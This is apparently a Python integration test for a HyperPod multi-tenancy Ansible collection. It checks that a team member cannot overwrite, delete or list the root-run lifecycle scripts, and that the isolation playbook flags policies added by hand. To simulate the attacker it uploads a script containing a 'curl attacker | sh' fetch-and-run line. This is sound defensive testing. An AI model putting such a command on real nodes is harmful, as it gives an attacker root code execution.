"""The platform's objects in the teams' data bucket, out of every team's reach (issue 36, case 3).

At 95a77e0 the cluster role kept the lifecycle scripts under s3://<data bucket>/lifecycle/, the prefix a team named
``lifecycle`` is given; its members overwrote on_create.sh, which HyperPod runs as root on every node the teams share,
and verify_isolation.yml passed. Now the scripts default to the platform's prefix (naming.PLATFORM_PREFIX), which no team
name spells, a cluster file that puts them in a team's reach is refused before any call (test_lifecycle_location.py,
the hyperpod_cluster target), and verify_isolation asks every object action and the listing of each place of the data
bucket no present team owns, and of the lifecycle folder, expected denied to every team principal.
"""

from __future__ import annotations

import json

import pytest
from ansible_collections.hyperpod.tenancy.plugins.module_utils import execution_role, naming
from botocore.exceptions import ClientError

from tests.integration.playbook_runner import SAMPLE, assert_ok

ASK = "Ask IAM about every team principal on every team's resources"


def _task_result(result, name):
    for play in result.report.get("plays", []):
        for task in play["tasks"]:
            if task["task"]["name"] == name:
                return task["hosts"]["localhost"]
    raise AssertionError(f"no task {name!r}")


def test_a_team_role_that_may_write_the_lifecycle_scripts_fails_verify_isolation(sample):
    """Threat model (issue 36, case 3): a team member overwrites the lifecycle scripts every node runs as root, or reads
    a prefix no present team owns. A cold site.yml keeps the scripts under the platform's prefix, where a member of a
    team named lifecycle, with its team's data policy, is refused writing, deleting and listing them (it was given them
    at 95a77e0), and which the teams' policies leave alone (verify_isolation passes with the places no team owns in its
    matrix); a statement added by hand that lets one team's role write them, or read a retired team's prefix, fails
    verify_isolation.yml, naming it."""
    bucket = SAMPLE["hyperpod_data_bucket"]
    assert_ok(sample.run("site.yml"), "site.yml")
    sagemaker, s3, iam = (sample.client.boto3_client(service) for service in ("sagemaker", "s3", "iam"))
    groups = sagemaker.describe_cluster(ClusterName=SAMPLE["hyperpod_cluster"]["name"])["InstanceGroups"]
    assert {group["LifeCycleConfig"]["SourceS3Uri"] for group in groups} == {f"s3://{bucket}/{naming.LIFECYCLE_PREFIX}"}
    script_key = naming.LIFECYCLE_PREFIX + "on_create.sh"
    script = s3.get_object(Bucket=bucket, Key=script_key)["Body"].read()

    # The attacker of 95a77e0: a member of a team named "lifecycle", with the data policy the collection gives a team's
    # pods (the sandbox authorizes requests signed with assumed-role keys). Its own prefix, where the lifecycle scripts
    # were kept, it may write; the scripts where the cluster reads them now, it may neither write, delete nor list.
    account = sample.client.boto3_client("sts").get_caller_identity()["Account"]
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{account}:root"}, "Action": "sts:AssumeRole"}]}
    member_role = iam.create_role(RoleName="lifecycle-team-member", AssumeRolePolicyDocument=json.dumps(trust))["Role"]
    policy = execution_role.team_data_policy(bucket, "lifecycle")
    iam.put_role_policy(RoleName=member_role["RoleName"], PolicyName=execution_role.TEAM_DATA_POLICY, PolicyDocument=json.dumps(policy))
    credentials = sample.client.boto3_client("sts").assume_role(RoleArn=member_role["Arn"], RoleSessionName="mallory")["Credentials"]
    member = sample.client.boto3_client("s3", credentials=credentials)
    member.put_object(Bucket=bucket, Key="lifecycle/on_create.sh", Body=b"#!/bin/bash\ncurl attacker | sh\n")
    attempts = {
        "overwrite": lambda: member.put_object(Bucket=bucket, Key=script_key, Body=b"#!/bin/bash\ncurl attacker | sh\n"),
        "delete": lambda: member.delete_object(Bucket=bucket, Key=script_key),
        "list": lambda: member.list_objects_v2(Bucket=bucket, Prefix=naming.LIFECYCLE_PREFIX),
    }
    for attempt, call in attempts.items():
        with pytest.raises(ClientError) as refused:
            call()
        assert refused.value.response["Error"]["Code"] == "AccessDenied", attempt
    assert s3.get_object(Bucket=bucket, Key=script_key)["Body"].read() == script
    iam.delete_role_policy(RoleName=member_role["RoleName"], PolicyName=execution_role.TEAM_DATA_POLICY)
    iam.delete_role(RoleName=member_role["RoleName"])

    # A prefix no present team owns: data an offboarded team kept.
    s3.put_object(Bucket=bucket, Key="retired/results.csv", Body=b"a,b\n")

    passed = sample.run("playbooks/verify_isolation.yml")
    assert_ok(passed, "verify_isolation.yml")
    asked = _task_result(passed, ASK)
    assert asked["leaks"] == [] and asked["access_analyzer"] == []
    shared = {line.split()[3] for line in asked["matrix"][1:] if line.split()[2] == "(shared)"}
    assert {"shared_objects", "shared_listing"} <= shared

    pods = "hyperpod-nlp-pods"
    lifecycle_writes = {
        "Version": "2012-10-17",
        "Statement": [{"Sid": "ByHand", "Effect": "Allow", "Action": "s3:PutObject", "Resource": f"arn:aws:s3:::{bucket}/{naming.LIFECYCLE_PREFIX}*"}],
    }
    iam.put_role_policy(RoleName=pods, PolicyName="added-by-hand", PolicyDocument=json.dumps(lifecycle_writes))
    studio = naming.studio_execution_role_name("vision")
    retired_reads = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": f"arn:aws:s3:::{bucket}/retired/*"}]}
    iam.put_role_policy(RoleName=studio, PolicyName="added-by-hand", PolicyDocument=json.dumps(retired_reads))

    sample.client.clear_requests()
    failed = sample.run("playbooks/verify_isolation.yml")
    assert failed.returncode == 2
    leaks = _task_result(failed, ASK)["leaks"]
    script_arn = f"arn:aws:s3:::{bucket}/{script_key}"
    # Each place is the set of its keys: the lifecycle folder is inside the platform's prefix and the bucket's root, so
    # a grant on it is a leak on those places too.
    found = {(c["team"], c["principal"], c["owner"], c["resource_kind"], c["resource"], c["action"]) for c in leaks}
    assert found >= {
        ("nlp", "pod_identity", "(shared)", "shared_objects", script_arn, "s3:PutObject"),
        ("nlp", "pod_identity", "(shared)", "shared_objects", f"arn:aws:s3:::{bucket}/{naming.LIFECYCLE_PREFIX}isolation-probe", "s3:PutObject"),
        ("vision", "execution_role", "(shared)", "shared_objects", f"arn:aws:s3:::{bucket}/retired/isolation-probe", "s3:GetObject"),
    }
    assert {(team, principal, owner, kind, action) for team, principal, owner, kind, unused_arn, action in found} == {
        ("nlp", "pod_identity", "(shared)", "shared_objects", "s3:PutObject"),
        ("vision", "execution_role", "(shared)", "shared_objects", "s3:GetObject"),
    }
    message = "\n".join(_task_result(failed, "Fail on a cross-team allow or a denial of what a team needs")["msg"])
    pods_arn = iam.get_role(RoleName=pods)["Role"]["Arn"]
    assert f"nlp's pod_identity ({pods_arn}) is allowed s3:PutObject on the teams' shared shared_objects {script_arn}" in message
    assert "vision's execution_role" in message and f"s3:GetObject on the teams' shared shared_objects arn:aws:s3:::{bucket}/retired/isolation-probe" in message
    # Read-only, as ever.
    assert [r["operation"] for r in sample.client.writes()] == []
